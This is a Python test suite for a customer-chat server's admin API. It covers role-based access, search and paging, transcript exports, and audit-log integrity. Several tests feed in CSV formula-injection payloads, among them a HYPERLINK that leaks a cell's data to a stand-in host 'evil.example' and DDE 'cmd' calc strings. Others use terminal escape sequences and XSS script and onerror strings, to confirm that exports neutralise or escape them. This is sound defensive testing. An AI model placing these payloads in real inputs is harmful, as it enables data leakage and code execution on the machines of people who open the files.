"""The admin API: access control, conversation search, transcripts, and the audit log."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import uuid
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from typing import Any

import httpx
import pytest

from .support import Agent, Server, Socket, Visitor

HTML = {"Accept": "text/html"}
CONTENT_TYPES = {
    "txt": "text/plain",
    "json": "application/json",
    "html": "text/html",
    "csv": "text/csv",
}


def _uid() -> str:
    return uuid.uuid4().hex[:12]


@dataclass
class Chat:
    visitor: Visitor
    socket: Socket
    conversation_id: str
    name: str
    email: str
    company: str


async def start_chat(server: Server, *bodies: str, name: str | None = None,
                     company: str = "Test Co") -> Chat:
    """A visitor who opens a conversation and sends `bodies`, each acknowledged."""
    tag = _uid()
    who = {"name": name or f"Customer {tag}", "email": f"c{tag}@example.com", "company": company}
    visitor = await Visitor(server).start(**who)
    socket = await visitor.socket()
    welcome = await socket.wait_type("welcome")
    for n, body in enumerate(bodies):
        await socket.send({"type": "message", "body": body, "client_msg_id": f"m{n}"})
        await socket.wait_type("ack", client_msg_id=f"m{n}")
    return Chat(visitor, socket, welcome["conversation_id"], who["name"], who["email"],
                who["company"])


async def end_chat(chat: Chat) -> None:
    await chat.socket.close()
    await chat.visitor.aclose()


@pytest.fixture
async def chat(server: Server) -> AsyncIterator[Chat]:
    c = await start_chat(server, f"my kettle sings opera {_uid()}", "and it will not stop")
    yield c
    await end_chat(c)


async def _max_audit_id(admin: Agent) -> int:
    entries = (await admin.http.get("/api/admin/audit", params={"limit": 1})).json()["entries"]
    return entries[0]["id"] if entries else 0


async def _audit_since(admin: Agent, after_id: int) -> list[dict[str, Any]]:
    response = await admin.http.get("/api/admin/audit", params={"limit": 1000})
    assert response.status_code == 200
    return [e for e in response.json()["entries"] if e["id"] > after_id]


# -- access control ----------------------------------------------------------------------------


def _admin_routes(conversation_id: str) -> list[str]:
    return [
        "/api/admin/conversations",
        "/api/admin/conversations?q=kettle",
        f"/api/admin/conversations/{conversation_id}",
        f"/api/admin/conversations/{conversation_id}/transcript",
        f"/api/admin/conversations/{conversation_id}/transcript?format=csv",
        "/api/admin/audit",
        "/api/admin/audit/verify",
    ]


async def test_agents_are_forbidden_from_admin(server: Server, agent: Agent, chat: Chat) -> None:
    """An agent gets 403 on every /api/admin/* route and an HTML 403 page at /admin."""
    for path in _admin_routes(chat.conversation_id):
        response = await agent.http.get(path)
        assert response.status_code == 403, path
        assert response.json()["error"] == "forbidden", path
        assert chat.name not in response.text and chat.email not in response.text
    page = await agent.http.get("/admin", headers=HTML)
    assert page.status_code == 403
    assert page.headers["content-type"].startswith("text/html")
    assert "<html" in page.text.lower()
    assert 'action="/staff/login"' not in page.text


async def test_anonymous_gets_401_on_admin_api(server: Server, chat: Chat) -> None:
    """Without a staff cookie every /api/admin/* route is 401; /admin shows the sign-in form."""
    async with httpx.AsyncClient(base_url=server.url, timeout=10) as anonymous:
        for path in _admin_routes(chat.conversation_id):
            response = await anonymous.get(path)
            assert response.status_code == 401, path
            assert response.json()["error"] == "not_signed_in", path
        page = await anonymous.get("/admin", headers=HTML)
        assert page.status_code == 200 and 'action="/staff/login"' in page.text
    # A visitor's cookie is no staff cookie.
    for path in _admin_routes(chat.conversation_id):
        assert (await chat.visitor.http.get(path)).status_code == 401, path


async def test_admin_page_for_admins(admin: Agent) -> None:
    """An admin gets the admin console page itself."""
    page = await admin.http.get("/admin", headers=HTML)
    assert page.status_code == 200
    assert page.headers["content-type"].startswith("text/html")
    assert 'action="/staff/login"' not in page.text


# -- listing and search ------------------------------------------------------------------------


async def test_search_finds_a_conversation_by_phrase(server: Server, admin: Agent, agent: Agent
                                                     ) -> None:
    """q= finds a conversation by a phrase in its messages; the status filter narrows the list."""
    phrase = f"purple-giraffe-{_uid()}"
    c = await start_chat(server, f"hello, {phrase} here")
    try:
        found = (await admin.http.get("/api/admin/conversations", params={"q": phrase})).json()
        assert found["total"] == 1
        assert [x["id"] for x in found["conversations"]] == [c.conversation_id]
        item = found["conversations"][0]
        assert item["status"] == "queued"
        assert item["customer"] == {"name": c.name, "email": c.email, "company": c.company}
        assert item["message_count"] == 1
        assert phrase in item["last_message"]["body"]

        by_email = (await admin.http.get("/api/admin/conversations",
                                         params={"q": c.email})).json()
        assert [x["id"] for x in by_email["conversations"]] == [c.conversation_id]
        by_id = (await admin.http.get("/api/admin/conversations",
                                      params={"q": c.conversation_id})).json()
        assert [x["id"] for x in by_id["conversations"]] == [c.conversation_id]

        async def ids(status: str) -> list[str]:
            r = await admin.http.get("/api/admin/conversations", params={"q": phrase,
                                                                          "status": status})
            assert r.status_code == 200
            return [x["id"] for x in r.json()["conversations"]]

        assert await ids("queued") == [c.conversation_id]
        assert await ids("active") == []
        assert await ids("closed") == []

        ags = await agent.socket()
        await ags.wait_type("queue")
        await ags.send({"type": "claim", "conversation_id": c.conversation_id})
        await ags.wait_type("status", conversation_id=c.conversation_id)
        assert await ids("active") == [c.conversation_id]
        assert await ids("queued") == []

        await ags.send({"type": "close", "conversation_id": c.conversation_id})
        await c.socket.wait_type("status", status="closed")
        assert await ids("closed") == [c.conversation_id]
        assert await ids("active") == []
        await ags.close()

        every = (await admin.http.get("/api/admin/conversations", params={"status": "closed"}
                                      )).json()
        assert all(x["status"] == "closed" for x in every["conversations"])
        bad = await admin.http.get("/api/admin/conversations", params={"status": "bogus"})
        assert bad.status_code == 422
        # Search terms are PII; the server's log does not keep them.
        log = server.log()
        for secret in (phrase, c.email, c.name):
            assert secret not in log, secret
    finally:
        await end_chat(c)


async def test_search_treats_wildcards_literally(server: Server, admin: Agent, chat: Chat) -> None:
    """A search for % or _ matches those characters, not everything."""
    for q in ("%", "_", "%%%_%%%"):
        r = await admin.http.get("/api/admin/conversations", params={"q": q + _uid()})
        assert r.status_code == 200
        assert r.json()["total"] == 0, q


async def test_paging_with_limit_and_offset(server: Server, admin: Agent) -> None:
    """limit and offset page through the results; total counts them all."""
    tag = f"pagingco-{_uid()}"
    chats = [await start_chat(server, company=tag) for _ in range(3)]
    try:
        everything = (await admin.http.get("/api/admin/conversations", params={"q": tag})).json()
        assert everything["total"] == 3
        all_ids = [x["id"] for x in everything["conversations"]]
        assert sorted(all_ids) == sorted(c.conversation_id for c in chats)

        first = (await admin.http.get("/api/admin/conversations",
                                      params={"q": tag, "limit": 2})).json()
        second = (await admin.http.get("/api/admin/conversations",
                                       params={"q": tag, "limit": 2, "offset": 2})).json()
        beyond = (await admin.http.get("/api/admin/conversations",
                                       params={"q": tag, "limit": 2, "offset": 3})).json()
        assert first["total"] == second["total"] == beyond["total"] == 3
        assert len(first["conversations"]) == 2 and len(second["conversations"]) == 1
        assert beyond["conversations"] == []
        paged = [x["id"] for x in first["conversations"] + second["conversations"]]
        assert paged == all_ids  # the same order, nothing twice, nothing missed

        for params in ({"limit": "-1"}, {"limit": "abc"}, {"offset": "-5"}, {"limit": "100000"}):
            r = await admin.http.get("/api/admin/conversations", params=params)
            assert r.status_code == 422, params
    finally:
        for c in chats:
            await end_chat(c)


async def test_conversation_detail_returns_messages(admin: Agent, chat: Chat) -> None:
    """GET /api/admin/conversations/{id} returns the conversation and its messages in order."""
    response = await admin.http.get(f"/api/admin/conversations/{chat.conversation_id}")
    assert response.status_code == 200
    assert response.headers["cache-control"] == "no-store"
    detail = response.json()
    assert detail["conversation"]["id"] == chat.conversation_id
    assert detail["conversation"]["customer"]["email"] == chat.email
    messages = detail["messages"]
    assert [m["seq"] for m in messages] == [1, 2]
    assert messages[1]["body"] == "and it will not stop"
    assert all(m["sender"] == "visitor" and m["author"] == chat.name for m in messages)
    missing = await admin.http.get("/api/admin/conversations/does-not-exist")
    assert missing.status_code == 404


# -- transcripts -------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["txt", "json", "html", "csv"])
async def test_transcript_downloads(admin: Agent, chat: Chat, fmt: str) -> None:
    """Each transcript format is an attachment, never cached, with the right content type."""
    response = await admin.http.get(f"/api/admin/conversations/{chat.conversation_id}/transcript",
                                    params={"format": fmt})
    assert response.status_code == 200, response.text
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment")
    assert f"{chat.conversation_id}.{fmt}" in disposition
    assert response.headers["cache-control"] == "no-store"
    assert response.headers["content-type"].split(";")[0].strip() == CONTENT_TYPES[fmt]
    text = response.text
    assert "and it will not stop" in text
    if fmt == "json":
        data = json.loads(text)
        assert data["conversation_id"] == chat.conversation_id
        assert data["customer"]["email"] == chat.email
        assert [m["seq"] for m in data["messages"]] == [1, 2]
    elif fmt == "csv":
        rows = list(csv.reader(io.StringIO(text)))
        assert rows[0] == ["conversation_id", "seq", "sent_at", "sender", "author", "body"]
        assert [r[1] for r in rows[1:]] == ["1", "2"]
    else:
        assert chat.name in text and chat.email in text


async def test_default_transcript_format_is_txt(admin: Agent, chat: Chat) -> None:
    """A transcript without a format is the plain-text one."""
    response = await admin.http.get(f"/api/admin/conversations/{chat.conversation_id}/transcript")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/plain")


async def test_unknown_transcript_format_is_422(admin: Agent, chat: Chat) -> None:
    """A format other than txt, json, html or csv is 422 and writes nothing to the audit log."""
    before = await _max_audit_id(admin)
    for fmt in ("pdf", "xml", "", "TXT"):
        response = await admin.http.get(
            f"/api/admin/conversations/{chat.conversation_id}/transcript", params={"format": fmt}
        )
        assert response.status_code == 422, fmt
        assert response.json()["field"] == "format"
    assert await _audit_since(admin, before) == []


async def test_csv_transcript_neutralises_formulas(server: Server, admin: Agent) -> None:
    """CSV cells starting with = + - @ are prefixed with an apostrophe so spreadsheets show text."""
    dangerous = ['=HYPERLINK("http://x")', "+1", "-1", "@SUM(1)"]
    c = await start_chat(server, *dangerous, "plain text", name=f"=cmd {_uid()}")
    try:
        response = await admin.http.get(
            f"/api/admin/conversations/{c.conversation_id}/transcript", params={"format": "csv"}
        )
        rows = list(csv.reader(io.StringIO(response.text)))
        header, body = rows[0], rows[1:]
        column = header.index("body")
        assert [r[column] for r in body] == ["'" + d for d in dangerous] + ["plain text"]
        author = header.index("author")
        assert all(r[author] == "'" + c.name for r in body)
        for row in body:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")), row
    finally:
        await end_chat(c)


# Payloads from public CSV-injection lists, hidden behind each separator a spreadsheet may be
# told to split on (comma, semicolon, tab) or behind a line break, quotes and blanks.
SPLIT_PAYLOADS = [
    "Thanks;=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for your refund\")",
    "ok\t=cmd|' /C calc'!A0",
    "see below\r\n@SUM(1+1)*cmd|' /C calc'!A0",
    "price, -2+3+cmd|' /C calc'!A0",
    "note; \"=1+1\"",
    "\uff1dcmd|' /C calc'!A0",  # a full-width equals sign
    "+1;+2",
]
SIGNS = ("=", "+", "-", "@")


def _spreadsheet_cells(text: str) -> list[str]:
    """Every cell a spreadsheet could make of the CSV text: read properly with each separator
    an import dialog offers, and split naively (lines first, quotes ignored) as some do."""
    cells = []
    for delimiter in (",", ";", "\t"):
        cells += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
                  for cell in row]
    for line in text.splitlines():
        cells += re.split(r"[,;\t]", line)
    return cells


def _runs_as_formula(cell: str) -> bool:
    shown = unicodedata.normalize("NFKC", cell).lstrip(' "\t\r\n\u00a0')
    return shown.startswith(SIGNS)


async def test_csv_neutralises_formulas_behind_every_separator(server: Server,
                                                              admin: Agent) -> None:
    """No cell a spreadsheet can make of a CSV transcript or export starts with a formula sign,
    however it splits: payloads hidden after ; tab, a comma or a line break stay text."""
    tag = _uid()
    c = await start_chat(server, *[f"{p} {tag}" for p in SPLIT_PAYLOADS],
                         name=f"Eve;=cmd|' /C calc'!A0 {tag}")
    try:
        transcript = await admin.http.get(
            f"/api/admin/conversations/{c.conversation_id}/transcript", params={"format": "csv"})
        export = await admin.http.get("/api/admin/export", params={"format": "csv"})
        for response in (transcript, export):
            assert response.status_code == 200
            assert tag in response.text
            bad = [cell for cell in _spreadsheet_cells(response.text) if _runs_as_formula(cell)]
            assert bad == [], bad
        # Neutralising adds an apostrophe and removes nothing: the words are all still there.
        rows = list(csv.reader(io.StringIO(transcript.text, newline="")))
        bodies = [r[5] for r in rows[1:]]
        assert [b.replace("'", "") for b in bodies] == [
            f"{p} {tag}".replace("'", "") for p in SPLIT_PAYLOADS]
        # The JSON transcript keeps the exact text.
        as_json = await admin.http.get(
            f"/api/admin/conversations/{c.conversation_id}/transcript", params={"format": "json"})
        assert [m["body"] for m in as_json.json()["messages"]] == [
            f"{p} {tag}" for p in SPLIT_PAYLOADS]
    finally:
        await end_chat(c)


async def test_txt_transcript_carries_no_terminal_escape_sequences(server: Server,
                                                                   admin: Agent) -> None:
    """Escape sequences in a message (clear the screen, rewrite a line, set the title, a C1 CSI)
    reach a txt transcript as visible characters, so `cat` of it cannot drive a terminal."""
    tag = _uid()
    payloads = [f"\x1b[2J\x1b[1;1Hall is well {tag}", f"fine\r\x1b[Kerased {tag}",
                f"\x1b]0;pwned\x07title {tag}", f"\x9b31mred\x7f {tag}"]
    c = await start_chat(server, *payloads)
    try:
        response = await admin.http.get(
            f"/api/admin/conversations/{c.conversation_id}/transcript", params={"format": "txt"})
        assert response.status_code == 200
        text = response.text
        assert tag in text
        controls = [ch for ch in text if (ord(ch) < 0x20 and ch not in "\n\t")
                    or 0x7F <= ord(ch) < 0xA0]
        assert controls == [], controls
        assert f"\u241b[2J\u241b[1;1Hall is well {tag}" in text  # shown, not obeyed
        assert f"\u241b]0;pwned\u2407title {tag}" in text
        # The other formats keep the exact text.
        as_json = await admin.http.get(
            f"/api/admin/conversations/{c.conversation_id}/transcript", params={"format": "json"})
        assert [m["body"] for m in as_json.json()["messages"]] == payloads
    finally:
        await end_chat(c)


async def test_html_transcript_escapes_markup(server: Server, admin: Agent) -> None:
    """The HTML transcript escapes a script tag in a message body and in the customer's name."""
    script = "<script>alert(1)</script>"
    c = await start_chat(server, script, name=f"{script}{_uid()}"[:100],
                         company='<img src=x onerror="alert(2)">')
    try:
        response = await admin.http.get(
            f"/api/admin/conversations/{c.conversation_id}/transcript", params={"format": "html"}
        )
        assert response.status_code == 200
        text = response.text
        assert "<script" not in text.lower()
        assert "<img" not in text.lower()
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
        assert text.count("&lt;script&gt;") >= 2  # the body and the customer's name
    finally:
        await end_chat(c)


# -- the audit log -----------------------------------------------------------------------------


async def test_downloads_and_views_are_audited(server: Server, admin: Agent, chat: Chat) -> None:
    """Every transcript download and view appends an audit entry naming actor, action and target."""
    admin_id = (await admin.http.get("/api/staff/me")).json()["staff"]["id"]
    target = f"conversation:{chat.conversation_id}"
    before = await _max_audit_id(admin)

    await admin.http.get(f"/api/admin/conversations/{chat.conversation_id}")
    for fmt in ("txt", "json", "html", "csv", "csv"):
        response = await admin.http.get(
            f"/api/admin/conversations/{chat.conversation_id}/transcript", params={"format": fmt}
        )
        assert response.status_code == 200
        newest = (await admin.http.get("/api/admin/audit", params={"limit": 1})).json()["entries"]
        assert newest[0]["action"] == "transcript.download"
        assert newest[0]["detail"]["format"] == fmt
        assert newest[0]["target"] == target

    entries = await _audit_since(admin, before)
    mine = [e for e in entries if e["target"] == target]
    assert [e["action"] for e in mine] == ["transcript.download"] * 5 + ["transcript.view"]
    assert [e["detail"].get("format") for e in mine[:5]] == ["csv", "csv", "html", "json", "txt"]
    for entry in mine:
        assert entry["actor"] == f"staff:{admin_id}"
        assert entry["ip"] == "127.0.0.1"
        assert entry["at"]

    everything = (await admin.http.get("/api/admin/audit", params={"limit": 1000})).json()
    ids = [e["id"] for e in everything["entries"]]
    assert ids == sorted(ids, reverse=True), "the audit list is not newest first"


async def test_audit_log_holds_no_personal_data(server: Server, admin: Agent) -> None:
    """After views and downloads, the audit list contains no customer name, email or message."""
    secret = f"my password is hunter2-{_uid()}"
    c = await start_chat(server, secret, name=f"Audit Subject {_uid()}",
                         company=f"Secret Corp {_uid()}")
    try:
        await admin.http.get(f"/api/admin/conversations/{c.conversation_id}")
        for fmt in ("txt", "json", "html", "csv"):
            await admin.http.get(f"/api/admin/conversations/{c.conversation_id}/transcript",
                                 params={"format": fmt})
        await admin.http.get("/api/admin/conversations", params={"q": c.email})
        text = (await admin.http.get("/api/admin/audit", params={"limit": 1000})).text
        assert f"conversation:{c.conversation_id}" in text
        for pii in (c.name, c.email, c.company, secret, "hunter2"):
            assert pii not in text, pii
    finally:
        await end_chat(c)


def test_audit_verify_on_an_intact_log(server: Server) -> None:
    """`chatserver audit verify` exits 0 on the shared server's untouched log."""
    done = server.cli("audit", "verify")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "intact" in done.stdout


async def test_audit_verify_finds_a_tampered_entry(make_server: Callable[..., Server]) -> None:
    """Altering one audit_log row makes `chatserver audit verify` exit 1 naming that entry."""
    server = make_server()
    server.add_staff("boss", "admin")
    server.add_staff("helper", "agent")
    boss = await Agent(server, "boss").login()
    try:
        c = await start_chat(server, "hello")
        await boss.http.get(f"/api/admin/conversations/{c.conversation_id}/transcript")
        await end_chat(c)
        assert server.cli("audit", "verify").returncode == 0
        intact = (await boss.http.get("/api/admin/audit/verify")).json()
        assert intact["intact"] is True and intact["first_broken_id"] is None
        assert intact["problem"] is None and intact["checked"] and intact["cannot_prove"]

        assert server.query("SELECT COUNT(*) FROM audit_log")[0][0] >= 3
        server.query("UPDATE audit_log SET action = 'x' WHERE id = 2")

        done = server.cli("audit", "verify")
        assert done.returncode == 1, done.stdout + done.stderr
        assert "entry 2" in done.stdout + done.stderr
        broken = (await boss.http.get("/api/admin/audit/verify")).json()
        assert broken["intact"] is False and broken["first_broken_id"] == 2
        assert "altered" in broken["problem"]
    finally:
        await boss.aclose()
